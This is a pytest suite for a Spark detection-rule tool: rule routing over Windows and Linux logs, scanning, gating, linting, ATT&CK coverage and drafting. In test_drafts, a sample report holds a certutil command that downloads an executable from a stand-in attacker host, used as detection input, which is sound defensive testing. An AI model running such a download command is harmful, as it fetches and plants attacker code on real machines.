"""Routing, scans, gates, coverage, decay, lint, drafts and statistics on small inputs with known results."""

import json
import math
import random

import pytest
from pyspark.sql import Observation
from pyspark.sql import functions as F

from sparkwatch.functions import stats
from sparkwatch.functions.dialect import Fields
from sparkwatch.model import GatePolicy, LogSource, Rule
from sparkwatch.operators import coverage, decay, draft, features, gate, lint, routes, scan
from sparkwatch.sources import synth
from sparkwatch.sources.rules import CATALOG_SCHEMA, detects, fallback_catalog, load_rules, load_stix, rules_table
from sparkwatch.streaming import rules as streaming

ID = "6f1c2a0e-3b4d-4c1a-9e7f-0a1b2c3d4e0"
EVENTS = "event_idx long, Channel string, EventID int, Image string, CommandLine string, EventType string, TargetObject string"
ROWS = [
    (0, "Microsoft-Windows-Sysmon/Operational", 1, "C:\\a\\whoami.exe", "whoami /all", None, None), (1, "Security", 4688, "C:\\a\\whoami.exe", "whoami", None, None),
    (2, "System", 1, "C:\\a\\whoami.exe", "whoami", None, None), (3, "Microsoft-Windows-Sysmon/Operational", 12, None, None, "DeleteKey", "HKLM\\run"),
    (4, "Microsoft-Windows-Sysmon/Operational", 12, None, None, "CreateKey", "HKLM\\run"), (5, "linux-auditd", 0, None, "whoami", None, None), (6, "aws-cloudtrail", 0, None, "whoami", None, None),
]


def rule(i, detection, source, **more):
    return Rule(id=f"{ID}{i}", title=f"r{i}", detection=detection, logsource=source, **more)


RULES = [
    rule(1, {"s": {"Image|endswith": "\\whoami.exe"}, "condition": "s"}, LogSource("windows", "process_creation"), tags=["attack.t1033"]),
    rule(2, {"s": {"TargetObject|contains": "run"}, "condition": "s"}, LogSource("windows", "registry_delete")),
    rule(3, {"s": ["whoami"], "condition": "s"}, LogSource("windows")),
    rule(4, {"s": {"CommandLine": "whoami"}, "condition": "s"}, LogSource("linux", service="auditd")),
    rule(5, {"s": {"EventID": 4688, "CommandLine": "whoami"}, "condition": "s"}, LogSource("windows", service="security")),
    rule(6, {"s": {"x|nope": 1}, "condition": "s"}, LogSource("windows")),
    rule(7, {"s": {"x": 1}, "condition": "s"}, LogSource("macos")),
    rule(8, {"s": {"x": 1}, "condition": "s"}, LogSource("windows"), status="deprecated"),
]


@pytest.fixture(scope="module")
def events(spark):
    return spark.createDataFrame(ROWS, EVENTS)


@pytest.fixture(scope="module")
def library(events):
    return scan.Library.build(RULES, Fields(events.schema))


def test_routes():
    of = lambda *a: routes.route(LogSource(*a))
    assert of("windows", "process_creation").pairs == ((routes.SYSMON, 1), ("security", 4688))
    assert of("windows", "process_creation", "sysmon").pairs == ((routes.SYSMON, 1),)
    assert of("windows", "process_creation", "system").pairs == ((routes.SYSMON, 1), ("security", 4688))
    assert of("windows", "registry_add").guard == ("EventType", ("createkey",))
    assert of("windows", "", "applocker").pairs[0][0].startswith("microsoft-windows-applocker/") and len(of("windows", "", "applocker").pairs) == 4
    assert of("windows").pairs == ((routes.ANY, None),) and of("linux", "process_creation").pairs == ((routes.LINUX_SYSMON, 1),)
    assert of("aws", "", "cloudtrail").pairs == ((routes.CLOUDTRAIL, None),)
    assert of("linux") is None and of("macos") is None and of() is None and of("windows", "nothing") is None
    assert routes.indexed(of("windows", "", "security"), {1, 2}).pairs == (("security", 1), ("security", 2))
    assert routes.indexed(of("windows", "process_creation"), {1}).pairs == ((routes.SYSMON, 1),)
    assert len(routes.SERVICES) + len(routes.SERVICES_OF_MANY) == 49


def test_library_and_scan(spark, events, library):
    assert set(library.unsupported) == {f"{ID}6"} and library.unroutable == [f"{ID}7"] and f"{ID}8" not in library.rules
    got = {(r.rule_id[-1], r.event_idx) for r in scan.hits(events, library, ["event_idx"]).collect()}
    assert got == {("1", 0), ("1", 1), ("2", 3), ("3", 0), ("3", 1), ("3", 2), ("4", 5), ("5", 1)}
    per = {r.rule_id[-1]: (r.hits, r.first_hit) for r in scan.hits_per_rule(scan.hits(events, library)).collect()}
    assert per["3"] == (3, 0) and per["5"] == (1, 1)
    n = scan.evaluations(events, library).first()[0]
    keyed = scan.keyed(events)
    assert n == routes.candidates(keyed, library.routes_table(spark)).count() == 2 + 3 + 1 + 2 + 2 + 1
    one = scan.examples(scan.hits(events, library), 1).collect()
    assert len(one) == 5 and scan.top_rules(scan.hits(events, library), 1).first().rule_id == f"{ID}3"
    assert scan.hits(events, library.without(set(library.rules)), ["event_idx"]).count() == 0


def test_routing_joins_are_hash_joins(spark, events, library):
    plan = routes.candidates(scan.keyed(events), library.routes_table(spark))._jdf.queryExecution().executedPlan().toString()
    assert "NestedLoop" not in plan and "Cartesian" not in plan


def test_stream_equals_batch(spark, events, library, tmp_path):
    events.write.parquet(str(tmp_path / "in"))
    stream = spark.readStream.schema(events.schema).parquet(str(tmp_path / "in"))
    q = streaming.stream_hits(stream, library, ["event_idx"]).writeStream.format("memory").queryName("hits_stream").trigger(availableNow=True).start()
    q.awaitTermination(60)
    row = lambda df: sorted((r.rule_id, r.event_idx) for r in df.collect())
    assert row(spark.table("hits_stream")) == row(scan.hits(events, library, ["event_idx"]))


def test_aliases(spark):
    df = spark.createDataFrame([("Security", 4688, "new.exe", None), ("Other", 1, "x.exe", "own.exe")], "Channel string, EventID int, NewProcessName string, Image string")
    assert [r.Image for r in routes.with_aliases(df).collect()] == ["new.exe", "own.exe"]


def test_gate(spark):
    rows = [("a", "tp", 0, True), ("a", "tp", 1, False), ("a", "tn", 0, True), *(("a", "corpus", i, i < 30) for i in range(100)), ("b", "tp", 0, True), ("b", "corpus", 0, False), ("c", "corpus", 0, False)]
    got = {r.rule_id: r for r in gate.evaluate(spark.createDataFrame(rows, "rule_id string, kind string, idx long, hit boolean")).collect()}
    assert got["a"].reasons == ["missed 1/2 true positives", "fired on 1 true negatives", "false-positive rate over the limit", "alerts a day over the budget"]
    assert (got["a"].recall, got["a"].precision, got["a"].fp_rate, got["a"].missed_tps) == (0.5, 1 / 32, 0.3, [1])
    assert got["b"].passed and got["c"].reasons == ["no true-positive fixtures"] and got["c"].recall == 0
    assert GatePolicy().budget == 20


def test_quality_score(spark):
    row = ("r", 0, 1, True, True, True, 50, 1, 5, 1.0, 0.5, 0, True)
    df = spark.createDataFrame([row, ("n", 3, 0, False, False, False, 0, 0, 0, None, None, None, None)], "rule_id string, errors int, warnings int, has_references boolean, has_falsepositives boolean, has_author boolean, description_length int, n_techniques int, n_tests int, recall double, precision double, fp_hits long, passed boolean")
    got = {r.rule_id: (r.score, r.grade) for r in gate.score(df).collect()}
    assert got == {"r": (17 + 15 + 10 + 15 + 20 + 5 + 10, "A"), "n": (0, "F")}


def test_coverage(spark):
    rows = [("T1", "a", ["x"], ["Windows"], False, False, False, None), ("T2", "b", ["x", "y"], ["Linux"], False, False, False, None), ("T0", "old", ["x"], ["Windows"], False, True, False, "T1"), ("T9", "loop", [], [], False, True, False, "T9")]
    catalog = spark.createDataFrame(rows, CATALOG_SCHEMA)
    assert [r.id for r in coverage.active(catalog, "WINDOWS").collect()] == ["T1"]
    assert {r.id: r.resolved for r in coverage.resolve(catalog).collect()} == {"T0": "T1", "T1": "T1", "T2": "T2", "T9": None}
    rules = spark.createDataFrame([("r", ["T1", "T0"]), ("s", ["T1", "T7"])], "rule_id string, techniques array<string>")
    per = coverage.by_technique(coverage.active(catalog), rules, rules.filter("rule_id = 'r'"))
    assert {r.id: (r.claimed, r.validated) for r in per.collect()} == {"T1": (2, 1), "T2": (0, 0)}
    assert {(r.rule_id, r.id, r.why) for r in coverage.stale_tags(catalog, rules).collect()} == {("r", "T0", "stale"), ("s", "T7", "uncatalogued")}
    assert coverage.summary(per).first().pct == 50.0 and json.loads(coverage.navigator_layer(per))["techniques"][0]["score"] == 2
    assert fallback_catalog(spark).count() == 16
    tags = spark.createDataFrame([(["attack.T1059.001", "attack.t1", "attack.execution", "attack.t1059.001"],)], "t array<string>")
    assert tags.select(coverage.techniques_of(F.col("t"))).first()[0] == ["T1059.001"]


def test_stix(spark, tmp_path):
    ref = lambda x: [{"source_name": "mitre-attack", "external_id": x}]
    items = [{"type": "attack-pattern", "id": "p1", "name": "new", "external_references": ref("T1059.001"), "x_mitre_platforms": ["Windows"], "kill_chain_phases": [{"kill_chain_name": "mitre-attack", "phase_name": "execution"}, {"kill_chain_name": "other", "phase_name": "x"}]}, {"type": "attack-pattern", "id": "p2", "name": "old", "revoked": True, "external_references": ref("T1086")}, {"type": "relationship", "id": "x", "relationship_type": "revoked-by", "source_ref": "p2", "target_ref": "p1"}]
    items += [{"type": "x-mitre-data-component", "id": f"c{i}", "name": f"component {i}"} for i in range(3)]
    items += [{"type": "relationship", "id": f"d{i}", "relationship_type": "detects", "source_ref": f"c{i}", "target_ref": "p1", "revoked": i == 1, "x_mitre_deprecated": i == 2} for i in (0, 1, 2, 0)]
    (tmp_path / "b.json").write_text(json.dumps({"objects": items}))
    got = {r.id: (r.revoked, r.revoked_by) for r in load_stix(spark, str(tmp_path / "b.json")).collect()}
    assert got == {"T1059.001": (False, None), "T1086": (True, "T1059.001")}
    assert load_stix(spark, str(tmp_path / "b.json")).filter("id = 'T1059.001'").first().tactics == ["execution"]
    assert [tuple(r) for r in detects(spark, str(tmp_path / "b.json")).collect()] == [("component 0", "T1059.001")]


def test_decay(spark, events):
    seen = decay.observed(events)
    inventory = {(r.channel, r.eid): set(r.fields) for r in seen.collect()}
    assert "CommandLine" in inventory[(routes.SYSMON, 1)] and "CommandLine" not in inventory[(routes.SYSMON, 12)]
    ok = decay.analyse(RULES[0], inventory)
    assert ok.status == "ok" and decay.analyse(RULES[6], inventory).status == "source-missing"
    gone = {k: v - {"Image"} for k, v in inventory.items()}
    assert decay.analyse(RULES[0], gone).status == "broken"
    blind = rule(9, {"s": {"CommandLine": "x"}, "f": {"Image": "y"}, "condition": "s and not f"}, LogSource("windows", "process_creation"))
    assert decay.analyse(blind, gone) == decay.Verdict("degraded", ("Image",), ("f",))
    for name, change in decay.SCHEMA_CHANGES.items():
        out = change(events)
        assert out.count() == (events.count() - 2 if "4688" in name else events.count())
    assert decay.to_4688(events, False).filter("CommandLine is not null and Channel = 'Security'").count() == 0
    assert decay.to_4688(events, False, False).filter("CommandLine is not null and Channel = 'Security'").count() == 1
    assert "process.executable" in decay.rename(events).columns
    made = decay.to_4688(events).filter("NewProcessName is not null").first()
    assert (made.Channel, made.EventID, made.NewProcessName, made.Image, made.Provider_Name) == ("Security", 4688, "C:\\a\\whoami.exe", "C:\\a\\whoami.exe", "Microsoft-Windows-Security-Auditing")
    wanted = spark.createDataFrame([("a", ["Image", "nowhere"]), ("b", ["event.x", "event.y", "Channel"])], "rule_id string, fields array<string>")
    nested = events.withColumn("event", F.create_map(F.lit("x"), F.lit("1"))).withColumn("none", F.lit(None).cast("string"))
    assert {r.rule_id: r.missing for r in decay.drift(wanted, nested).collect()} == {"a": ["nowhere"], "b": ["event.x", "event.y"]}


@pytest.mark.parametrize("keyed", [False, True])
def test_a_scan_reads_its_events_once(spark, tmp_path, keyed):
    """One scan of the files for a library over all routes, and only the partitions and columns that its routes and rules need."""
    from sparkwatch.queries import full_library

    events = spark.createDataFrame(ROWS, EVENTS).withColumn("unused", F.lit("x"))
    events.withColumn("channel_key", F.lower("Channel")).write.partitionBy(*["channel_key"] * keyed).parquet(str(tmp_path / "e"))
    stored = spark.read.parquet(str(tmp_path / "e"))
    rules = [*RULES, *full_library()]
    spark.conf.set("spark.sql.maxMetadataStringLength", 5000)
    plan = lambda df: df._jdf.queryExecution().executedPlan().toString()
    text = plan(scan.hits(stored, scan.Library.build(rules, Fields(stored.schema)), ["event_idx"]))
    assert text.count("FileScan") == 1 and "Exchange" not in text and len(rules) > 250
    some = scan.hits(stored, scan.Library.build([RULES[1]], Fields(stored.schema)), ["event_idx"])
    text = plan(some)
    assert text.count("FileScan") == 1 and "In(EventID" in text.replace("EqualTo(EventID", "In(EventID") and "unused" not in text
    assert [(r.event_idx, r.rule_id[-1]) for r in some.collect()] == [(3, "2")]
    if keyed:
        assert "PartitionFilters: [isnotnull(channel_key" in text or "channel_key#" in text.split("PartitionFilters")[1][:200]


def test_events_that_are_equal_are_each_a_hit(spark):
    df = spark.createDataFrame([ROWS[0][1:]] * 3, EVENTS.split(", ", 1)[1])
    assert scan.hits(df, scan.Library.build(RULES, Fields(df.schema)), ["Channel"]).count() == 6


def test_a_rule_met_by_several_routes_counts_once(spark, events):
    library = scan.Library.build(RULES[:1], Fields(events.schema))
    library.routes = {k: routes.Route(((routes.ANY, None), ("security", None), ("security", 4688))) for k in library.routes}
    assert sorted(r.event_idx for r in scan.hits(events, library, ["event_idx"]).collect()) == [0, 1, 2]


def test_patterns_that_java_rejects_are_unsupported(events):
    built = scan.Library.build([*RULES, rule(9, {"s": {"CommandLine|re": "(?P<a>x)(?(a)y|z)"}, "condition": "s"}, LogSource("windows"))], Fields(events.schema))
    assert f"{ID}9" in built.unsupported and f"{ID}1" in built.rules


def test_keywords_over_parsed_logs(spark, tmp_path):
    from sparkwatch.sources import logs

    rows = [{"Channel": "Security", "mimikatz": "no"}, {"Channel": "Security", "CommandLine": "C:\\x\\MimiKatz.exe"}, {"Channel": "Security", "data": {"deep": ["a", "run mimikatz"]}}, {"Channel": "Security", "file": "x"}]
    (tmp_path / "mimikatz.jsonl").write_text("\n".join(map(json.dumps, rows)))
    parsed = logs.read_logs(spark, str(tmp_path))
    fields = Fields(parsed.schema, document="event")
    rules = [rule(1, {"k": ["mimikatz"], "condition": "k"}, LogSource("windows")), rule(2, {"k": {"|all": ["x", "mimi*.exe"]}, "condition": "k"}, LogSource("windows")), rule(3, {"k": "mimikatz", "condition": "k"}, LogSource("windows"))]
    got = sorted((r.rule_id[-1], r.event_idx) for r in scan.hits(parsed, scan.Library.build(rules, fields), ["event_idx"], lambda n: fields(n).sql).collect())
    assert got == [("1", 1), ("1", 2), ("2", 1), ("3", 1), ("3", 2)]


def test_statistics_of_samples(spark):
    assert math.isclose(stats.t_quantile(0.975, 4), 2.776445, abs_tol=1e-4) and math.isclose(stats.t_quantile(0.975, 30), 2.042272, abs_tol=1e-4)
    got = stats.mean_interval(spark.createDataFrame([(float(x),) for x in (1, 2, 3, 4, 5)], "x double"), "x").first()
    assert got["mean"] == 3 and math.isclose(got.lo, 3 - 2.776445 * math.sqrt(2.5 / 5), abs_tol=1e-4)
    assert stats.mean_interval(spark.createDataFrame([(1.0,)], "x double"), "x").first().lo is None
    pairs = spark.createDataFrame([(i % 2 == 0, i % 2 == 0 or i % 10 == 1) for i in range(200)], "a boolean, b boolean")
    lo, hi = stats.bootstrap_kappa(pairs, "a", "b")
    assert lo < stats.kappa(pairs, "a", "b").first().kappa < hi and stats.bootstrap_kappa(pairs.limit(0), "a", "b") == (0.0, 0.0)


def test_lint(spark):
    good = Rule(id=f"{ID}1", title="t", description="d", level="low", status="experimental", detection={"s": {"a": "x"}, "condition": "s"}, logsource=LogSource("windows"), tags=["attack.t1059"], falsepositives=["x"], true_positives=[{}], true_negatives=[{}])
    assert lint.lint(good) == []
    bad = Rule(id="x", level="odd", status="odd", detection={"s": {"a|nope": "x", "b|re": "(", "c|contains": "y"}, "e": {}, "condition": "s and q"}, tags=["attack.t12", "zoo.x"], raw={"drafting": {"draft": True}})
    codes = {f.code for f in lint.lint(bad)}
    assert codes >= {"A101", "A102", "A103", "A104", "A105", "A106", "A107", "A108", "A110", "A111", "A112", "A114", "W203", "W204", "W205", "W207", "W212"}
    assert {f.code for f in lint.lint(Rule(**{**good.__dict__, "status": "stable"}), "sigma")} == {"W209"}
    assert {f.code for f in lint.lint(good, catalog={"T1059": False})} == {"W208"}
    assert lint.lint_rules(spark, [good, good]).filter("code = 'A113'").count() == 1
    for p in ("(a+)+", "(a*)*", r"(\w+\s?)*", "(a|a)*", "(a|ab)+"):
        assert lint.redos_risk(p)
    for p in ("a+b+", "(abc)+", "[a-z]{3,}", "(a|b)*", r"\s-e(nc|ncodedcommand)?\s+[A-Za-z0-9+/=]{16,}"):
        assert lint.redos_risk(p) is None


def test_features_and_cross_validation(spark):
    assert len(features.features(Rule())) == 65
    rules = [Rule(id=f"r{i}", level="high" if i % 2 else "low", detection={"s": {"Image|contains": "x" * (i % 7 + 1)}, "condition": "s"}, logsource=LogSource("windows", "process_creation")) for i in range(60)]
    table = features.feature_table(spark, rules).withColumn("label", (F.col("level") < 2).cast("int"))
    got = {r.model: r for r in features.cross_validate(table, ["level", "mean_len", "n_values"], folds=2, rounds=5).collect()}
    assert set(got) == {"logistic", "boosted", "heuristic_level", "heuristic_hunting", "heuristic_no_filter", "random"}
    assert got["logistic"].roc_auc > 0.9 and got["boosted"].roc_auc > 0.9 and got["heuristic_level"].roc_auc == got["heuristic_level"].precision_at_k == 1
    assert got["logistic"].rows == 60 and got["logistic"].positives == 30 and abs(got["heuristic_level"].recall_at_share - 0.2) < 1e-12


def test_models_score_in_a_session_that_has_observed_a_query(spark):
    spark.range(3).observe(Observation(), F.count("*").alias("n")).collect()
    rows = [(f"r{i}", float(i % 3 == 0), float(i % 3 == 0) + (i * 7919 % 13) / 30) for i in range(60)]
    scored = features.held_out(spark.createDataFrame(rows, "rule_id string, label double, sign double"), ["sign"], folds=2, rounds=2)
    assert {r.model: r["count"] for r in scored.groupBy("model").count().collect()} == {"logistic": 60, "boosted": 60, "random": 60}
    assert features.areas(scored.filter("model = 'logistic'"), ["model"]).first().roc_auc > 0.95


def test_metrics_by_brute_force_without_a_window_over_a_models_rows(spark):
    rng = random.Random(5)
    rows = [(m, f"r{i}", float(rng.random() < p), float(rng.randint(0, most))) for m, p, most in (("a", 0.3, 6), ("b", 0.02, 4), ("c", 0.5, 10**6), ("none", 0.0, 3)) for i in range(90)]
    scored = spark.createDataFrame(rows, "model string, rule_id string, y double, score double")
    for r in (told := features.metrics(scored)).collect():
        own = [(y, s) for m, _, y, s in rows if m == r.model]
        positives = int(sum(y for y, _ in own))

        def expected(k, own=own):
            at = [(sum(y for y, t in own if t == s), sum(t == s for _, t in own), sum(t > s for _, t in own)) for s in {s for _, s in own}]
            return sum(hits * max(0, min(size, k - higher)) / size for hits, size, higher in at)

        assert (r.rows, r.positives) == (90, positives) and (r.roc_auc is None) == (positives == 0)
        assert math.isclose(r.precision_at_k, expected(max(1, positives)) / max(1, positives)) and math.isclose(r.recall_at_share, expected(9) / max(1, positives))
    for df in (told, features.areas(scored, ["model"])):
        plan = df._jdf.queryExecution().optimizedPlan().toString()
        assert "Window" in plan and all("[__part#" in line for line in plan.splitlines() if "Window [" in line)


def test_areas_and_bootstrap_by_brute_force(spark):
    rng = random.Random(3)
    rows = [(m, f"r{i}", float(i % 3 == 0), float(rng.randint(0, 6) + (2 if m == "a" and i % 3 == 0 else 0))) for i in range(40) for m in ("a", "heuristic_level")]
    scored = spark.createDataFrame(rows, "model string, rule_id string, y double, score double")

    def plain(some):
        p, n = [s for y, s in some if y], [s for y, s in some if not y]
        roc = sum((x > z) + (x == z) / 2 for x in p for z in n) / (len(p) * len(n))
        ap = 0.0
        for s in {s for _, s in some}:
            at = [y for y, t in some if t >= s]
            ap += sum(y for y, t in some if t == s) / len(p) * sum(at) / len(at)
        return roc, ap

    for r in features.areas(scored, ["model"]).collect():
        roc, ap = plain([(y, s) for m, _, y, s in rows if m == r.model])
        assert math.isclose(r.roc_auc, roc) and math.isclose(r.pr_auc, ap)
    assert features.areas(scored.filter("y > 0"), ["model"]).first().roc_auc is None
    boot = {(r.model, r.metric): r for r in features.bootstrap_areas(scored, draws=60).collect()}
    a, same = boot[("a", "roc_auc")], boot[("heuristic_level", "roc_auc")]
    assert a.draws == 60 and a.lo < plain([(y, s) for m, _, y, s in rows if m == "a"])[0] < a.hi and a.delta_lo <= a.delta_hi and a.at_or_below < 20
    assert same.delta_lo == same.delta_hi == 0 and same.at_or_below == 60


def test_folds_are_stratified_and_features_that_matter_are_found(spark):
    rows = [(f"r{i}", float(i % 5 == 0), float(i % 5 == 0) + (i * 7919 % 13) / 30, float(i * 31 % 17)) for i in range(100)]
    table = spark.createDataFrame(rows, "rule_id string, label double, sign double, noise double")
    dealt = features.stratified(table, "label", 4, 1)
    assert dealt.groupBy("__fold", "__y").count().count() == 8
    assert {(r["__y"], r["count"]) for r in dealt.groupBy("__fold", "__y").count().collect()} == {(1.0, 5), (0.0, 20)}
    assert {r["__y"]: round(r.w, 9) for r in dealt.groupBy("__y").agg(F.sum("__w").alias("w")).collect()} == {0.0: 50.0, 1.0: 50.0}
    got = {r.feature: r.importance for r in features.importance(table, ["sign", "noise"], repeats=2, rounds=3).collect()}
    assert got["sign"] > 0.3 and abs(got["noise"]) < 0.1
    again = {(r.model, r.metric): r for r in features.repeated(table, ["sign", "noise"], folds=2, seeds=(1, 2), rounds=2).collect()}
    assert again[("boosted", "roc_auc")].mean > 0.95 and again[("boosted", "roc_auc")].lo <= again[("boosted", "roc_auc")].mean


def test_drafts(spark):
    report = "The actor moved on.\nC:\\Users\\x> certutil.exe -urlcache -f http://evil.example.com/a.exe out.exe\nPS C:\\> Invoke-WebRequest -Uri http://x.example.com\nplain words here\n"
    lines = draft.command_lines(spark.createDataFrame([(1, report)], "id int, text string"))
    rows = [(r.command, r.tokens) for r in draft.behavioural_tokens(lines).collect()]
    assert len(rows) == 2 and "-urlcache" in rows[0][1] and not any("example" in t for _, ts in rows for t in ts)
    made = Rule.parse(draft.draft([c for c, _ in rows], ["T1105"], "report"))
    df = spark.createDataFrame([(c,) for c, _ in rows], "CommandLine string")
    from sparkwatch.plans.compile import rule_column

    assert df.filter(rule_column(df, made)).count() == 2
    assert "A114" in {f.code for f in lint.lint(made)}


def test_statistics(spark):
    df = spark.createDataFrame([(8, 10), (0, 0)], "k int, n int")
    lo, hi = stats.wilson(F.col("k"), F.col("n"))
    got = df.select(lo.alias("lo"), hi.alias("hi")).collect()
    assert math.isclose(got[0].lo, 0.4902, abs_tol=1e-4) and math.isclose(got[0].hi, 0.9433, abs_tol=1e-4) and got[1].hi == 0
    assert stats.mcnemar(0, 0) == 1 and math.isclose(stats.mcnemar(1, 9), 0.021484375)
    ties = spark.createDataFrame([(1.0, 1), (1.0, 0), (0.5, 1)], "s double, y int")
    assert stats.expected_top_k(ties, "s", "y", 1).first()[0] == 0.5


def test_rules_from_yaml_and_synthetic_events(spark):
    rules = load_rules("title: a\ndetection:\n  s: {x: 1}\n  condition: s\ntags: [attack.T1059.001, attack.execution]\n---\naction: global\n")
    assert len(rules) == 1 and rules[0].techniques == ["T1059.001"] and rules[0].tactics == ["execution"]
    assert rules_table(spark, rules).first().techniques == ["T1059.001"]
    made = synth.generate(spark, 200)
    assert made.exceptAll(synth.generate(spark, 200)).count() == 0 and "process.executable" in synth.generate(spark, 5, schema="v2").columns
